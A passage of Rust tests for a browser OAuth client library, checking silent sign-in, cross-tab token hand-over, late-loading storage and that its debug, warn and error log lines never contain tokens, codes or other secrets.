    fn a_silent_page_on_another_origin_is_refused_before_loading() {
        let h = silent_harness();
        *h.frame.origin.borrow_mut() = Some("https://other.example".into());
        let e = login_silently(&h).unwrap_err();
        assert_eq!(e.option_name(), Some("silentRedirectUri"));
        assert!(h.frame.loads.borrow().is_empty());
        assert_eq!(pending_logins(&h), 0);
    }

    #[test]
    fn a_set_another_tab_renewed_meanwhile_is_used_instead_of_a_frame() {
        let h = silent_harness();
        silent_sign_in(&h, "AT-1").unwrap();
        h.clock.set(NOW + 3_600_000);
        let other = format!(
            r#"{{"v":1,"access_token":"AT-OTHER-TAB","token_type":"Bearer","expires_at":{}}}"#,
            NOW + 7_200_000
        );
        *h.tabs.arrives_while_waiting.borrow_mut() = Some(other);
        assert_eq!(
            block_on(h.client.access_token(30, false)).unwrap().secret(),
            "AT-OTHER-TAB"
        );
        assert_eq!(h.frame.loads.borrow().len(), 1, "no second frame");
        // The app's own loginSilently always signs in anew.
        *h.frame.answer.borrow_mut() = None;
        assert_eq!(login_silently(&h).unwrap_err().code(), "timeout");
        assert_eq!(h.frame.loads.borrow().len(), 2);
    }
}

mod logging {
    //! The `logger` option: the flows' steps at `debug`, what went wrong at
    //! `warn` and `error`, and never a secret in a line.
    use super::*;
    use wasm_oauth::client::SilentReason;

    /// A client logging at `level`, and the lines its logger receives.
    fn logged(level: Option<&str>, o: AuthClientOptions) -> (Harness, Rc<RefCell<Vec<String>>>) {
        let f = fakes();
        let lines = f.log.lines.clone();
        let o = AuthClientOptions {
            log_level: level.map(str::to_string),
            ..o
        };
        (harness_on(o, f), lines)
    }

    const REFRESHED: &str =
        r#"{"access_token":"AT-2","token_type":"Bearer","expires_in":3600,"refresh_token":"RT-2"}"#;
    const TOKEN_SENT: &str =
        "debug request sent method=POST endpoint=https://auth.example/api/v1/oauth/token";
    const TOKEN_ANSWERED: &str = "debug answer received method=POST endpoint=https://auth.example/api/v1/oauth/token status=200 durationMs=0";

    #[test]
    fn a_login_and_a_refresh_log_their_steps_at_debug() {
        let (h, lines) = logged(Some("debug"), options());
        signed_in(&h);
        h.http.answer(200, REFRESHED);
        block_on(h.client.access_token(30, true)).unwrap();
        assert_eq!(
            *lines.borrow(),
            [
                "debug login started",
                TOKEN_SENT,
                TOKEN_ANSWERED,
                "debug request sent method=GET endpoint=https://auth.example/.well-known/jwks.json",
                "debug answer received method=GET endpoint=https://auth.example/.well-known/jwks.json status=200 durationMs=0",
                "debug JWKS fetched count=3",
                "debug callback handled",
                "debug refresh started",
                TOKEN_SENT,
                TOKEN_ANSWERED,
            ]
        );
    }

    #[test]
    fn a_shared_refresh_and_a_hand_over_from_another_tab_are_logged() {
        let (h, lines) = logged(
            Some("debug"),
            AuthClientOptions {
                storage: Some("local".into()),
                ..options()
            },
        );
        signed_in(&h);
        assert!(lines
            .borrow()
            .contains(&"debug tab hand-over published".into()));
        // Two calls in this tab: the second joins the first's refresh.
        h.clock.set(NOW + 3_600_000);
        h.http.answer(200, REFRESHED);
        h.http.gate.set(true);
        let mut cx = Context::from_waker(Waker::noop());
        let mut first = Box::pin(h.client.access_token(30, false));
        let mut second = Box::pin(h.client.access_token(30, false));
        assert!(first.as_mut().poll(&mut cx).is_pending());
        assert!(second.as_mut().poll(&mut cx).is_pending());
        h.http.gate.set(false);
        assert_eq!(block_on(first).unwrap(), "AT-2");
        assert_eq!(block_on(second).unwrap(), "AT-2");
        let shared = "debug refresh shared with a call in flight".to_string();
        assert_eq!(lines.borrow().iter().filter(|l| **l == shared).count(), 1);
        // Another tab refreshes while this one waits for the lock.
        lines.borrow_mut().clear();
        h.clock.set(NOW + 2 * 3_600_000);
        *h.tabs.arrives_while_waiting.borrow_mut() = Some(format!(
            r#"{{"v":1,"access_token":"AT-OTHER-TAB","token_type":"Bearer","expires_at":{},"refresh_token":"RT-3"}}"#,
            NOW + 3 * 3_600_000
        ));
        assert_eq!(
            block_on(h.client.access_token(30, false)).unwrap(),
            "AT-OTHER-TAB"
        );
        assert_eq!(
            *lines.borrow(),
            ["debug refresh handed over by another tab"]
        );
    }

    #[test]
    fn a_popup_login_logs_its_steps_and_why_it_gave_no_callback() {
        let (h, lines) = logged(Some("debug"), options());
        let http = h.http.clone();
        h.navigation
            .popup_does(move |url| Ok(provider_answers(&http, url)));
        block_on(h.client.login_with_popup(&LoginRequest::default(), 60_000)).unwrap();
        let steps: Vec<String> = lines
            .borrow()
            .iter()
            .filter(|l| !l.contains("request sent") && !l.contains("answer received"))
            .cloned()
            .collect();
        assert_eq!(
            steps,
            [
                "debug login popup opened",
                "debug login started",
                "debug callback received from the login popup",
                "debug JWKS fetched count=3",
                "debug callback handled",
            ]
        );
        // Closed, timed out or blocked: a warning with the code only.
        for (code, line) in [
            (
                ErrorCode::PopupClosed,
                "warn login popup gave no callback error=popup_closed",
            ),
            (
                ErrorCode::Timeout,
                "warn login popup gave no callback error=timeout",
            ),
        ] {
            let (h, lines) = logged(Some("warn"), options());
            h.navigation
                .popup_does(move |_| Err(AuthError::new(code, "the popup's end")));
            block_on(h.client.login_with_popup(&LoginRequest::default(), 1_000)).unwrap_err();
            assert_eq!(*lines.borrow(), [line]);
        }
        let (h, lines) = logged(Some("warn"), options());
        h.navigation.blocks_popups.set(true);
        block_on(h.client.login_with_popup(&LoginRequest::default(), 1_000)).unwrap_err();
        assert_eq!(
            *lines.borrow(),
            ["warn login popup not opened error=popup_blocked"]
        );
    }

    #[test]
    fn the_callback_page_logs_its_scrub_and_its_hand_back_never_the_url() {
        let (h, lines) = logged(Some("debug"), options());
        let (_, state, _) = start(&h);
        lines.borrow_mut().clear();
        let url = format!("{REDIRECT}?code=C1&state={state}");
        *h.navigation.address.borrow_mut() = Some(url.clone());
        h.navigation.own_popup.set(true);
        let page = h.client.handle_redirect_callback(&url);
        let mut page = pin!(page);
        assert!(poll_once(page.as_mut()).is_pending());
        assert_eq!(
            *lines.borrow(),
            [
                "debug callback scrubbed from the address",
                "debug callback handed back to the opener",
            ]
        );
        // The page that is no popup of ours handles the callback itself.
        let (h, lines) = logged(Some("debug"), options());
        let (_, state, nonce) = start(&h);
        lines.borrow_mut().clear();
        h.http.answer(200, &token_body(&good_id_token(&nonce)));
        let url = format!("{REDIRECT}?code=C1&state={state}");
        *h.navigation.address.borrow_mut() = Some(url.clone());
        block_on(h.client.handle_redirect_callback(&url)).unwrap();
        let lines = lines.borrow();
        assert_eq!(lines[0], "debug callback scrubbed from the address");
        assert_eq!(lines.last().unwrap(), "debug callback handled");
        assert!(!lines.iter().any(|l| l.contains("opener")));
        assert!(!lines.iter().any(|l| l.contains(&state) || l.contains("C1")));
    }

    #[test]
    fn the_silent_frame_logs_its_hand_back_never_the_url() {
        let (h, lines) = logged(Some("debug"), options());
        let (_, state, _) = start(&h);
        lines.borrow_mut().clear();
        let url = format!("{REDIRECT}?code=C1&state={state}");
        *h.navigation.address.borrow_mut() = Some(url.clone());
        h.frame.own_frame.set(true);
        let page = h.client.handle_redirect_callback(&url);
        let mut page = pin!(page);
        assert!(poll_once(page.as_mut()).is_pending());
        assert_eq!(
            *lines.borrow(),
            [
                "debug callback scrubbed from the address",
                "debug callback handed back to the silent sign-in",
            ]
        );
    }

    #[test]
    fn a_silent_sign_in_logs_its_steps_and_its_failure_by_code_only() {
        let o = AuthClientOptions {
            silent_redirect_uri: Some(format!("{REDIRECT}?silent")),
            ..options()
        };
        let (h, lines) = logged(Some("debug"), o);
        // The provider's description echoes the state: it stays out of the log.
        let answer: FrameAnswer = Rc::new(|params| {
            let state = find(params, "state")?;
            Some(format!(
                "{REDIRECT}?silent&error=login_required&error_description=no+{state}&state={state}"
            ))
        });
        *h.frame.answer.borrow_mut() = Some(answer);
        let e = block_on(h.client.login_silently(SilentReason::Asked)).unwrap_err();
        assert_eq!(e.code(), "login_required");
        let state = find(&query_pairs(&h.frame.loads.borrow()[0].0), "state")
            .unwrap()
            .to_string();
        assert!(
            e.description().unwrap().contains(&state),
            "the echo came back"
        );
        assert_eq!(
            *lines.borrow(),
            [
                "debug login started",
                "debug silent sign-in frame loading",
                "error silent sign-in failed error=login_required",
            ]
        );
    }

    #[test]
    fn a_redirect_login_and_logout_log_when_they_leave_the_page() {
        let mut o = options();
        o.endpoints = Some(EndpointOptions {
            end_session: Some("https://auth.example/logout".into()),
            ..EndpointOptions::default()
        });
        let (h, lines) = logged(Some("debug"), o);
        block_on(h.client.login_with_redirect(&LoginRequest::default(), None)).unwrap();
        assert_eq!(
            *lines.borrow(),
            ["debug login started", "debug leaving for the provider"]
        );
        lines.borrow_mut().clear();
        signed_in(&h);
        lines.borrow_mut().clear();
        block_on(h.client.logout_and_leave(false, None)).unwrap();
        assert_eq!(
            *lines.borrow(),
            ["debug logged out", "debug leaving for the end-session page"]
        );
        // Without an end-session page the page stays: no such line.
        let (h, lines) = logged(Some("debug"), options());
        signed_in(&h);
        lines.borrow_mut().clear();
        block_on(h.client.logout_and_leave(false, None)).unwrap();
        assert_eq!(*lines.borrow(), ["debug logged out"]);
    }

    #[test]
    fn another_tabs_news_is_logged_and_unreadable_news_is_a_warning() {
        let f = fakes();
        let (tabs, lines) = (f.tabs.clone(), f.log.lines.clone());
        let o = AuthClientOptions {
            log_level: Some("debug".into()),
            ..options()
        };
        let client = Client::open(Config::from_options(o, &WhatwgUrl).unwrap(), f).unwrap();
        tabs.another_tab_publishes(Published::Tokens(format!(
            r#"{{"v":1,"access_token":"AT-FROM-TAB-B","token_type":"Bearer","expires_at":{},"refresh_token":"RT-9"}}"#,
            NOW + 2 * 3_600_000
        )));
        tabs.another_tab_publishes(Published::Tokens(r#"{"v":1,"access_token":7}"#.into()));
        tabs.another_tab_publishes(Published::LoggedOut);
        assert_eq!(
            *lines.borrow(),
            [
                "debug tokens received from another tab",
                "warn unreadable news from another tab ignored",
                "debug logout received from another tab",
            ]
        );
        drop(client);
    }

    #[test]
    fn a_refused_storage_write_is_a_warning_and_the_default_level_hides_the_steps() {
        let f = fakes();
        let lines = f.log.lines.clone();
        let full = FullStorage {
            inner: f.storage.clone(),
            full: Rc::new(Cell::new(false)),
        };
        let h_http = f.http.clone();
        let c = Client::new(
            Config::from_options(options(), &WhatwgUrl).unwrap(),
            f.with_storage(full.clone()),
        );
        let (_, state, nonce) = start_on(&c);
        h_http.answer(200, &token_body(&good_id_token(&nonce)));
        full.full.set(true);
        block_on(c.handle_callback(&format!("{REDIRECT}?code=C1&state={state}"))).unwrap();
        assert_eq!(
            *lines.borrow(),
            ["warn storage refused a write error=storage_unavailable"]
        );
    }

    #[test]
    fn a_corrupt_entry_clock_skew_and_a_failed_refresh_are_logged_with_their_codes_only() {
        let (h, lines) = logged(None, options());
        h.storage
            .set(&format!("{KEY_PREFIX}{CLIENT_ID}:tokens"), "{not json")
            .unwrap();
        assert!(h.client.tokens().is_none());
        assert_eq!(*lines.borrow(), ["warn corrupt stored entry removed"]);
        lines.borrow_mut().clear();

        signed_in(&h);
        // A `Date` two days off is not believed.
        h.http.date_ms.set(Some(NOW + 2 * 86_400_000));
        h.http.answer(200, REFRESHED);
        block_on(h.client.access_token(30, true)).unwrap();
        assert_eq!(
            *lines.borrow(),
            ["warn clock skew beyond tolerance ignored skewSeconds=172800"]
        );
        lines.borrow_mut().clear();
        h.http.date_ms.set(None);

        // The server's description echoes the refresh token: only the code is logged.
        h.http.answer(
            400,
            r#"{"error":"invalid_request","error_description":"bad refresh_token RT-2"}"#,
        );
        block_on(h.client.access_token(30, true)).unwrap_err();
        assert_eq!(
            *lines.borrow(),
            ["error refresh failed error=invalid_request"]
        );
        lines.borrow_mut().clear();
        h.http.fail(TOKEN_URL, ErrorCode::NetworkError);
        block_on(h.client.access_token(30, true)).unwrap_err();
        assert_eq!(
            *lines.borrow(),
            ["error refresh failed error=network_error"]
        );
    }

    #[test]
    fn a_request_that_gets_no_answer_is_logged_with_its_error_code() {
        let (h, lines) = logged(Some("debug"), options());
        signed_in(&h);
        lines.borrow_mut().clear();
        h.http.fail(TOKEN_URL, ErrorCode::NetworkError);
        block_on(h.client.access_token(30, true)).unwrap_err();
        assert_eq!(
            *lines.borrow(),
            [
                "debug refresh started",
                TOKEN_SENT,
                "debug no answer method=POST endpoint=https://auth.example/api/v1/oauth/token error=network_error durationMs=0",
                "error refresh failed error=network_error",
            ]
        );
    }

    #[test]
    fn log_level_off_logs_nothing_even_a_failure() {
        let (h, lines) = logged(Some("off"), options());
        signed_in(&h);
        h.http.fail(TOKEN_URL, ErrorCode::NetworkError);
        block_on(h.client.access_token(30, true)).unwrap_err();
        assert_eq!(h.events.borrow().last().unwrap(), "error:network_error");
        assert!(lines.borrow().is_empty());
    }

    #[test]
    fn device_polling_logs_each_wait_and_each_poll_never_the_codes() {
        let f = fakes();
        let lines = f.log.lines.clone();
        let h = harness_on(
            AuthClientOptions {
                log_level: Some("debug".into()),
                ..options()
            },
            f,
        );
        h.http.answer_at(DEVICE_URL, 200, DEVICE_BODY);
        let d = block_on(h.client.start_device_authorization(Some("openid"))).unwrap();
        h.http.answer(400, r#"{"error":"slow_down"}"#);
        h.http.answer(
            200,
            r#"{"access_token":"DEV-AT-SECRET","token_type":"Bearer","expires_in":3600}"#,
        );
        let abort = FakeAbort::on(&h, None);
        block_on(h.client.poll_device_token(&d, NOW, &abort)).unwrap();
        let device = "endpoint=https://auth.example/api/v1/oauth/code";
        let token = "endpoint=https://auth.example/api/v1/oauth/token";
        assert_eq!(
            *lines.borrow(),
            [
                format!("debug request sent method=POST {device}"),
                format!("debug answer received method=POST {device} status=200 durationMs=0"),
                "debug device poll waiting waitMs=5000".into(),
                format!("debug request sent method=POST {token}"),
                format!("debug answer received method=POST {token} status=400 durationMs=0"),
                "debug device poll waiting waitMs=10000".into(),
                format!("debug request sent method=POST {token}"),
                format!("debug answer received method=POST {token} status=200 durationMs=0"),
            ]
        );
    }

    /// The lines that contain any of `secrets`.
    fn leaks(lines: &[String], secrets: &[String]) -> Vec<String> {
        lines
            .iter()
            .filter(|l| secrets.iter().any(|s| l.contains(s.as_str())))
            .cloned()
            .collect()
    }

    #[test]
    fn no_log_line_of_a_whole_dpop_session_carries_a_secret() {
        let (h, lines) = logged(
            Some("debug"),
            AuthClientOptions {
                dpop: Some(true),
                storage: Some("local".into()),
                ..options()
            },
        );
        let dpop_body = |id: &str| token_body(id).replace("\"Bearer\"", "\"DPoP\"");
        const CODE: &str = "CODE-SECRET-f00d";
        let use_nonce = r#"{"error":"use_dpop_nonce","error_description":"send nonce"}"#;
        // Login, with a DPoP nonce retry.
        let (params, state, nonce) = start(&h);
        h.http
            .answer_with_nonce(TOKEN_URL, 400, use_nonce, "NONCE-SERVER-1");
        h.http.answer(200, &dpop_body(&good_id_token(&nonce)));
        callback(&h, &format!("{REDIRECT}?code={CODE}&state={state}")).unwrap();
        // A refresh, userinfo, a failed refresh echoing the token, logout with revocation.
        h.http.answer(200, &REFRESHED.replace("Bearer", "DPoP"));
        block_on(h.client.access_token(30, true)).unwrap();
        h.http
            .answer_at(USERINFO_URL, 200, r#"{"sub":"urn:xeonr:user:alice"}"#);
        block_on(h.client.userinfo()).unwrap();
        h.http.answer(
            400,
            r#"{"error":"invalid_grant","error_description":"RT-2 was revoked"}"#,
        );
        let _ = block_on(h.client.access_token(30, true));
        // Signed in once more after the session ended (a fresh login).
        signed_in_with(&h, &dpop_body, "CODE-2");
        h.http.answer_at(REVOKE_URL, 200, "");
        h.http.answer_at(
            REVOKE_URL,
            503,
            r#"{"error":"temporarily_unavailable","error_description":"AT-1"}"#,
        );
        block_on(h.client.logout(true, None)).unwrap();

        // Every secret value the run used: the login's state, nonce and PKCE
        // verifier, the code, each token, each proof and the server's nonce.
        let mut secrets: Vec<String> = vec![state.clone(), nonce.clone(), CODE.into()];
        secrets.push(find(&params, "code_challenge").unwrap().into());
        secrets.extend(["AT-1", "RT-1", "AT-2", "RT-2", "NONCE-SERVER-1"].map(String::from));
        secrets.push(good_id_token(&nonce));
        for r in h.http.requests.borrow().iter() {
            secrets.extend(r.dpop.clone());
            secrets.extend(r.bearer.clone());
            if let Some(form) = &r.form {
                for (name, value) in parse_pairs(form).unwrap() {
                    if ["code", "code_verifier", "refresh_token", "token"].contains(&name.as_str())
                    {
                        secrets.push(value);
                    }
                }
            }
        }
        assert!(
            secrets.iter().any(|s| s.len() >= 43),
            "the verifier and proofs were collected"
        );
        let lines = lines.borrow().clone();
        assert!(lines.iter().filter(|l| l.starts_with("debug ")).count() >= 10);
        for expected in [
            "warn DPoP nonce retry status=400",
            "error refresh failed error=login_required",
            "warn revocation failed error=temporarily_unavailable",
            "debug logged out",
        ] {
            assert!(
                lines.iter().any(|l| l == expected),
                "{expected} in {lines:#?}"
            );
        }
        assert_eq!(leaks(&lines, &secrets), Vec::<String>::new());
        // The scan itself finds a secret where one is.
        let planted = format!("debug request sent endpoint=https://auth.example/?code={CODE}");
        assert_eq!(leaks(std::slice::from_ref(&planted), &secrets), [planted]);
    }

    #[test]
    fn an_api_token_is_logged_when_requested_served_from_cache_or_refused_by_its_code() {
        let (h, lines) = logged(Some("debug"), options());
        signed_in(&h);
        lines.borrow_mut().clear();
        answer_api(&h, "AT-A", 3600, Some("RT-2"));
        api_token(&h, API_A, Some("read")).unwrap();
        api_token(&h, API_A, Some("read")).unwrap();
        assert_eq!(
            *lines.borrow(),
            [
                "debug API token requested",
                TOKEN_SENT,
                TOKEN_ANSWERED,
                "debug refresh token rotated for an API handed to the session",
                "debug API token served from cache",
            ]
        );
        lines.borrow_mut().clear();
        // The server's description echoes the refresh token: only the code is logged.
        h.http.answer(
            400,
            r#"{"error":"invalid_scope","error_description":"RT-2 may not ask for admin"}"#,
        );
        api_token(&h, API_B, Some("admin")).unwrap_err();
        assert_eq!(
            lines.borrow().last().unwrap(),
            "error API token request failed error=invalid_scope"
        );
    }

    #[test]
    fn a_corrupt_api_token_entry_removed_is_a_warning_at_the_default_level() {
        let (h, lines) = logged(None, options());
        signed_in(&h);
        answer_api(&h, "AT-A", 3600, None);
        api_token(&h, API_A, None).unwrap();
        assert!(lines.borrow().is_empty(), "no steps at warn");
        let key = api_keys(&h).pop().unwrap();
        h.storage.set(&key, "{not json").unwrap();
        answer_api(&h, "AT-A2", 3600, None);
        assert_eq!(api_token(&h, API_A, None).unwrap(), "AT-A2");
        assert_eq!(*lines.borrow(), ["warn corrupt stored entry removed"]);
    }

    #[test]
    fn no_log_line_of_a_session_with_tokens_per_api_carries_a_secret() {
        let (h, lines) = logged(Some("debug"), options());
        let (params, state, nonce) = start(&h);
        h.http.answer(200, &token_body(&good_id_token(&nonce)));
        callback(&h, &format!("{REDIRECT}?code=CODE-1&state={state}")).unwrap();
        // Two APIs, each rotating the refresh token, one served again from cache.
        answer_api(&h, "AT-A", 3600, Some("RT-2"));
        api_token(&h, API_A, Some("read")).unwrap();
        answer_api(&h, "AT-B", 3600, Some("RT-3"));
        api_token(&h, API_B, None).unwrap();
        api_token(&h, API_A, Some("read")).unwrap();
        // A refusal echoing the refresh token, then the session's own refresh.
        h.http.answer(
            400,
            r#"{"error":"invalid_scope","error_description":"RT-3 may not ask for admin"}"#,
        );
        api_token(&h, API_A, Some("admin")).unwrap_err();
        h.http.answer(
            200,
            r#"{"access_token":"AT-2","token_type":"Bearer","expires_in":3600,"refresh_token":"RT-4"}"#,
        );
        block_on(h.client.access_token(30, true)).unwrap();
        // Logout revokes the session's tokens and each API's, one refusal echoing it.
        h.http.answer_at(REVOKE_URL, 200, "");
        h.http.answer_at(REVOKE_URL, 200, "");
        h.http.answer_at(REVOKE_URL, 200, "");
        h.http.answer_at(
            REVOKE_URL,
            503,
            r#"{"error":"temporarily_unavailable","error_description":"AT-A"}"#,
        );
        block_on(h.client.logout(true, None)).unwrap();

        // Every secret value the run used, and every value sent in a form.
        let mut secrets: Vec<String> = vec![state.clone(), nonce.clone(), "CODE-1".into()];
        secrets.push(find(&params, "code_challenge").unwrap().into());
        secrets.extend(
            [
                "AT-1", "RT-1", "AT-A", "RT-2", "AT-B", "RT-3", "AT-2", "RT-4",
            ]
            .map(String::from),
        );
        secrets.push(good_id_token(&nonce));
        for r in h.http.requests.borrow().iter() {
            secrets.extend(r.bearer.clone());
            if let Some(form) = &r.form {
                for (name, value) in parse_pairs(form).unwrap() {
                    if ["code", "code_verifier", "refresh_token", "token"].contains(&name.as_str())
                    {
                        secrets.push(value);
                    }
                }
            }
        }
        let lines = lines.borrow().clone();
        for expected in [
            "debug API token requested",
            "debug refresh token rotated for an API handed to the session",
            "debug API token served from cache",
            "error API token request failed error=invalid_scope",
            "debug refresh started",
            "warn revocation failed error=temporarily_unavailable",
            "debug logged out",
        ] {
            assert!(
                lines.iter().any(|l| l == expected),
                "{expected} in {lines:#?}"
            );
        }
        assert_eq!(leaks(&lines, &secrets), Vec::<String>::new());
        // The scan itself finds a secret where one is.
        let planted = "error API token request failed RT-3".to_string();
        assert_eq!(leaks(std::slice::from_ref(&planted), &secrets), [planted]);
    }
}

mod loading_store {
    //! An app's promise-returning store loads what it kept after the client
    //! is made: the flows wait for it, a session it held is announced, and
    //! what goes wrong on the way (a wait that runs out, a write refused
    //! late) is logged with its code only.
    use super::*;
    use wasm_oauth::client::SilentReason;

    /// The client's receiver of the store's late refusals.
    type Refusals = Rc<RefCell<Option<Box<dyn Fn(AuthError)>>>>;

    /// A store that finds what it kept only when awaited, one turn later.
    #[derive(Clone, Default)]
    struct LoadingStorage {
        loaded_into: SharedStorage,
        kept: Rc<RefCell<Vec<(String, String)>>>,
        loaded: Rc<Cell<bool>>,
        /// Set by the test: how many waits run out before the store loads.
        slow_waits: Rc<Cell<u32>>,
        refusals: Refusals,
    }

    impl LoadingStorage {
        /// The app's store rejects a write after `set` returned.
        fn refuse_late(&self) {
            let e = AuthError::new(
                ErrorCode::StorageUnavailable,
                "the app's storage refused to store the session",
            );
            (self.refusals.borrow().as_ref().expect("the client listens"))(e);
        }
    }

    impl Storage for LoadingStorage {
        fn get(&self, key: &str) -> Option<String> {
            self.loaded_into.get(key)
        }
        fn set(&self, key: &str, value: &str) -> Result<(), AuthError> {
            self.loaded_into.set(key, value)
        }
        fn remove(&self, key: &str) {
            self.loaded_into.remove(key)
        }
        fn keys_with_prefix(&self, prefix: &str) -> Vec<String> {
            self.loaded_into.keys_with_prefix(prefix)
        }
        fn is_ready(&self) -> bool {
            self.loaded.get()
        }
        async fn ready(&self) -> bool {
            let mut turned = false;
            std::future::poll_fn(|_| match std::mem::replace(&mut turned, true) {
                false => Poll::Pending,
                true => Poll::Ready(()),
            })
            .await;
            if self.loaded.get() {
                return true;
            }
            if self.slow_waits.get() > 0 {
                self.slow_waits.set(self.slow_waits.get() - 1);
                return false;
            }
            self.loaded.set(true);
            for (key, value) in self.kept.borrow_mut().drain(..) {
                // What this page wrote meanwhile wins over what was kept.
                if self.loaded_into.get(&key).is_none() {
                    self.loaded_into.set(&key, &value).unwrap();
                }
            }
            true
        }
        fn deliver_refusals_to(&self, receiver: Box<dyn Fn(AuthError)>) {
            *self.refusals.borrow_mut() = Some(receiver);
        }
    }

    type Loading = (Rc<Client<Fakes<LoadingStorage>>>, Fakes<LoadingStorage>);

    /// A client, opened as the face opens it, over a store that keeps
    /// `record`, logging from `log_level`.
    fn client_keeping_logged(record: &str, log_level: Option<&str>) -> Loading {
        let storage = LoadingStorage::default();
        let key = format!("{KEY_PREFIX}{CLIENT_ID}:tokens");
        storage.kept.borrow_mut().push((key, record.to_string()));
        let f = fakes().with_storage(storage);
        let o = AuthClientOptions {
            log_level: log_level.map(str::to_string),
            ..options()
        };
        let config = Config::from_options(o, &WhatwgUrl).unwrap();
        (Client::open(config, f.clone()).unwrap(), f)
    }

    fn client_keeping(record: &str) -> Loading {
        client_keeping_logged(record, None)
    }

    fn kept_session(access_token: &str) -> String {
        format!(
            r#"{{"v":1,"access_token":"{access_token}","token_type":"Bearer","expires_at":{},"refresh_token":"rt-kept"}}"#,
            NOW + 3_600_000
        )
    }

    #[test]
    fn get_access_token_waits_for_the_store_to_load() {
        let (client, f) = client_keeping(&kept_session("at-kept"));
        assert!(client.storage_loading());
        assert!(
            !client.is_authenticated(),
            "nothing is read before the load"
        );
        let token = block_on(client.access_token(30, false)).unwrap();
        assert_eq!(token.secret(), "at-kept");
        assert!(!client.storage_loading());
        assert!(client.is_authenticated());
        assert!(
            f.log.lines.borrow().is_empty(),
            "a load in time is no warning"
        );
    }

    #[test]
    fn a_token_per_api_waits_for_the_store_and_uses_the_kept_refresh_token() {
        let (client, f) = client_keeping(&kept_session("at-kept"));
        f.http.answer(
            200,
            r#"{"access_token":"at-api","token_type":"Bearer","expires_in":3600}"#,
        );
        let token = block_on(client.access_token_for(Some(API_A.into()), None, 30, false));
        assert_eq!(token.unwrap().secret(), "at-api", "not login_required");
        let sent = f.http.sent();
        let pairs = parse_pairs(sent[0].form.as_deref().unwrap()).unwrap();
        assert_eq!(find(&pairs, "refresh_token"), Some("rt-kept"));
        assert_eq!(find(&pairs, "resource"), Some(API_A));
    }

    #[test]
    fn a_silent_sign_in_waits_for_the_store_and_keeps_the_kept_users_session() {
        // Alice's session is still loading when loginSilently is called; the
        // provider has Bob signed in. Read before the load, no session would
        // be held and Bob's set would replace Alice's.
        let alice_id = good_id_token("n-kept");
        let kept = format!(
            r#"{{"v":1,"access_token":"at-alice","token_type":"Bearer","expires_at":{},"id_token":"{alice_id}"}}"#,
            NOW + 3_600_000
        );
        let storage = LoadingStorage::default();
        let key = format!("{KEY_PREFIX}{CLIENT_ID}:tokens");
        storage.kept.borrow_mut().push((key, kept));
        let f = fakes().with_storage(storage);
        let silent = format!("{REDIRECT}?silent");
        let o = AuthClientOptions {
            silent_redirect_uri: Some(silent.clone()),
            ..options()
        };
        let config = Config::from_options(o, &WhatwgUrl).unwrap();
        let client = Client::open(config, f.clone()).unwrap();
        let http = f.http.clone();
        let answer: FrameAnswer = Rc::new(move |params| {
            let bob = claims_at(find(params, "nonce")?, NOW / 1000)
                .replace("urn:xeonr:user:alice", "urn:xeonr:user:bob");
            http.answer(
                200,
                &format!(
                    r#"{{"access_token":"at-bob","token_type":"Bearer","expires_in":3600,"id_token":"{}"}}"#,
                    id_token(&bob)
                ),
            );
            let state = find(params, "state")?;
            Some(format!("{silent}&code=C-BOB&state={state}"))
        });
        *f.frame.answer.borrow_mut() = Some(answer);
        let e = block_on(client.login_silently(SilentReason::Asked)).unwrap_err();
        assert_eq!(e.code(), "login_required");
        assert!(e.message().contains("another user"), "{}", e.message());
        assert_eq!(client.tokens().unwrap().access_token.secret(), "at-alice");
    }

    #[test]
    fn logout_waits_for_the_store_and_revokes_the_kept_session() {
        let (client, f) = client_keeping(&kept_session("at-kept"));
        f.http.answer_at(REVOKE_URL, 200, "");
        f.http.answer_at(REVOKE_URL, 200, "");
        block_on(client.logout(true, None)).unwrap();
        let revoked: Vec<String> = f
            .http
            .sent()
            .iter()
            .filter(|r| r.url == REVOKE_URL)
            .map(|r| {
                let pairs = parse_pairs(r.form.as_deref().unwrap()).unwrap();
                find(&pairs, "token").unwrap().to_string()
            })
            .collect();
        assert_eq!(revoked, ["rt-kept", "at-kept"]);
        assert!(client.tokens().is_none());
    }

    #[test]
    fn a_session_the_store_loads_late_is_announced_as_tokens_and_logged_at_debug() {
        let (client, f) = client_keeping_logged(&kept_session("at-kept"), Some("debug"));
        block_on(client.announce_loaded_session());
        assert_eq!(*f.events.0.borrow(), ["tokens:7"]);
        assert_eq!(*f.log.lines.borrow(), ["debug storage loaded late"]);
        // Nothing kept: nothing announced, the load still logged.
        let (empty, f) = client_keeping_logged("{not json", Some("debug"));
        block_on(empty.announce_loaded_session());
        assert!(f.events.0.borrow().is_empty());
        assert_eq!(
            *f.log.lines.borrow(),
            [
                "debug storage loaded late",
                "warn corrupt stored entry removed"
            ]
        );
        // At the default level the load is not logged.
        let (client, f) = client_keeping(&kept_session("at-kept"));
        block_on(client.announce_loaded_session());
        assert!(f.log.lines.borrow().is_empty());
    }

    #[test]
    fn a_load_that_runs_out_of_time_is_a_warning_and_the_flow_goes_on_without_it() {
        let (client, f) = client_keeping_logged(&kept_session("at-kept"), Some("debug"));
        f.storage.slow_waits.set(2);
        let e = block_on(client.access_token(30, false)).unwrap_err();
        assert_eq!(e.code(), "login_required", "as without a stored session");
        assert_eq!(
            f.log.lines.borrow().first().map(String::as_str),
            Some("warn storage load timed out error=timeout")
        );
        // The announcement outwaits the bound, silently, and finds the session.
        f.log.lines.borrow_mut().clear();
        f.events.0.borrow_mut().clear();
        block_on(client.announce_loaded_session());
        assert_eq!(*f.log.lines.borrow(), ["debug storage loaded late"]);
        assert_eq!(*f.events.0.borrow(), ["tokens:7"]);
        assert_eq!(client.tokens().unwrap().access_token, "at-kept");
    }

    #[test]
    fn a_write_the_store_refuses_late_is_a_warning_with_its_code_only_and_an_error_event() {
        let (client, f) = client_keeping(&kept_session("at-kept"));
        block_on(client.access_token(30, false)).unwrap();
        f.storage.refuse_late();
        assert_eq!(
            *f.log.lines.borrow(),
            ["warn storage refused a write error=storage_unavailable"]
        );
        assert_eq!(*f.events.0.borrow(), ["error:storage_unavailable"]);
        // The session this page holds is kept.
        assert!(client.is_authenticated());
        // A client gone: a refusal reaches no one and breaks nothing.
        drop(client);
        f.storage.refuse_late();
        assert_eq!(f.log.lines.borrow().len(), 1);
    }
}

// The session's refresh and a per-API request share one refresh-token
// request (client/refresh.rs); each behaviour of it is pinned on both paths.

#[test]
fn a_failed_api_token_request_keeps_the_session_and_its_tokens() {
    let h = harness();
    signed_in(&h);
    h.http.answer(503, "<html>down</html>");
    let e = api_token(&h, API_A, None).unwrap_err();
    assert_eq!(e.code(), "invalid_response");
    assert_eq!(e.status(), Some(503));
